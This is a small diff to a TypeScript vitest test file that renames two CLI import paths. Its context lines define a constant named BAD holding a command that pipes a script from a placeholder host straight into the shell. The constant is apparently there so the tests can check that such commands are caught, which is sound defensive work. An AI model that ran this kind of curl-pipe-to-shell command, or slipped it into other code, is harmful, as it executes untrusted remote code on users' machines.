@@ -4,8 +4,8 @@ import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { parse } from "yaml";
-import { folderWith } from "../cli/folder.js";
-import { command } from "../cli/process.js";
+import { folderWith } from "../cli/folder-with.js";
+import { command } from "../cli/curlew-process.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 const VERSION: string = JSON.parse(readFileSync("package.json", "utf8")).version;
